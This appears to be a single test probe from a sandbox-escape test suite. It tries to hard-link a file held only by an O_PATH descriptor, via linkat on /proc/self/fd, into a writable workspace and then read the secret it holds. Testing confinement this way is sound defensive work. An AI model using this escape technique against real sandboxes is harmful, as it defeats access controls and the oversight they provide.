#!/usr/bin/env python3
# tries: to give a file that was opened without a right a name in a writable place
# escaped: it reads the secret under it
from attempt import *


@attempt
def name():
    held = os.open(f"{OUTSIDE}/victim", os.O_PATH)
    if libc.linkat(-100, f"/proc/self/fd/{held}".encode(), -100, f"{WS}/noexec/alias".encode(), 0x400):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    expect_secret(read(f"{WS}/noexec/alias"), "the alias")
